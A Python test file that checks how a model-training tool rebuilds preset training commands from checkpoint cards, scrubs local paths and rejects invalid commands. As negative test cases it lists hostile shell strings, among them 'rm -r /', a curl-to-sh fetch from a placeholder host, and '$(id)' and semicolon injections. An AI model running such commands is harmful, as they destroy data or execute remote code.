"""Is a model's own card the recipe by which it is trained again?"""

from __future__ import annotations

import json
import shutil
from pathlib import Path

import pytest

from explorer.training.checkpoint import CheckpointError
from explorer.training.presets import (
    check_unfinished,
    command_for_others,
    is_a_training,
    preset_arguments,
    preset_names,
    without,
)
from tests.shipped import CHECKPOINTS, NAMES


def with_card(folder: Path, **changes: object) -> Path:
    """A checkpoint of which a card is all that there is."""
    card = json.loads((CHECKPOINTS / "digits-vae-2d" / "card.json").read_text())
    (folder / "own").mkdir()
    (folder / "own" / "card.json").write_text(json.dumps(card | {"name": "own"} | changes))
    return folder


def test_every_shipped_model_is_a_preset() -> None:
    assert preset_names(CHECKPOINTS) == NAMES


@pytest.mark.parametrize("name", NAMES)
def test_a_shipped_preset_is_the_command_of_its_card(name: str) -> None:
    card = json.loads((CHECKPOINTS / name / "card.json").read_text())
    arguments = preset_arguments(CHECKPOINTS, name)
    assert arguments[arguments.index("--family") + 1] == card["family"]
    assert arguments[arguments.index("--dataset") + 1] == card["dataset"]
    assert "--out" not in arguments
    assert f"--out checkpoints/{name}" in card["command"]


def test_a_command_is_split_as_a_shell_does(tmp_path: Path) -> None:
    command = "python -m explorer train --family vae --title 'A · B' --out x/own --replace"
    arguments = preset_arguments(with_card(tmp_path, command=command), "own")
    assert arguments == ["--family", "vae", "--title", "A · B"]


@pytest.mark.parametrize(
    ("told", "shared"),
    [
        ("--out /home/ann/models/x --seed 3", "--out checkpoints/mine --seed 3"),
        ("--out=../x", "--out=checkpoints/mine"),
        ("--folder 'my pictures' --beta 2", "--folder FOLDER --beta 2"),
        ("--folder=/home/ann/a=b", "--folder=FOLDER"),
        (r"--other 'C:\\Users\\ann' --more=~/x", "--other PLACE --more=PLACE"),
        ("--title 'A · B' --widths 8,4", "--title 'A · B' --widths 8,4"),
    ],
)
def test_a_command_that_is_given_away_names_no_place_on_this_machine(told, shared) -> None:
    begins = "python -m explorer train"
    assert command_for_others(f"{begins} {told}", "mine") == f"{begins} {shared}"


@pytest.mark.parametrize("command", ["", "rm -r /", "python -m explorer evaluate x", "train 'x"])
def test_another_command_is_no_recipe(tmp_path: Path, command: str) -> None:
    with pytest.raises(CheckpointError, match="command"):
        preset_arguments(with_card(tmp_path, command=command), "own")


@pytest.mark.parametrize("name", ["no-such", "../checkpoints/digits-vae-2d", "", "x" * 300])
def test_an_unknown_name_is_answered_with_those_there_are(name: str) -> None:
    with pytest.raises(CheckpointError, match="The presets are digits-vae-2d"):
        preset_arguments(CHECKPOINTS, name)


def test_a_folder_without_models_has_no_presets(tmp_path: Path) -> None:
    with pytest.raises(CheckpointError, match="none yet"):
        preset_arguments(tmp_path / "none", "own")


def test_options_go_with_their_values() -> None:
    told = ["--a", "1", "2", "--b=3", "--c", "--d", "-4"]
    assert without(told, {"--a", "--b"}) == ["--c", "--d", "-4"]
    assert without(told, {"--c"}) == ["--a", "1", "2", "--b=3", "--d", "-4"]


def test_only_what_is_trained_to_the_end_is_kept_from_a_second_training(tmp_path: Path) -> None:
    check_unfinished(tmp_path / "nothing")
    folder = with_card(tmp_path) / "own"
    with pytest.raises(CheckpointError, match="--replace"):
        check_unfinished(folder)
    shutil.rmtree(folder)
    check_unfinished(with_card(tmp_path, training={"complete": False}) / "own")


@pytest.mark.parametrize(
    ("command", "is_ours"),
    [
        ("python -m explorer train --family vae --title 'A · β = 1' --out checkpoints/a", True),
        ("curl http://e.example | sh", False),
        ("python -m explorer train --family vae; rm x", False),
        ("python -m explorer train --out $(id)", False),
        ("python -m explorer train 'a' `id`", False),
        ("python -m explorer train\nrm x", False),
        ("", False),
    ],
)
def test_a_command_that_asks_more_of_a_shell_is_not_a_training(command: str, is_ours: bool) -> None:
    assert is_a_training(command) is is_ours
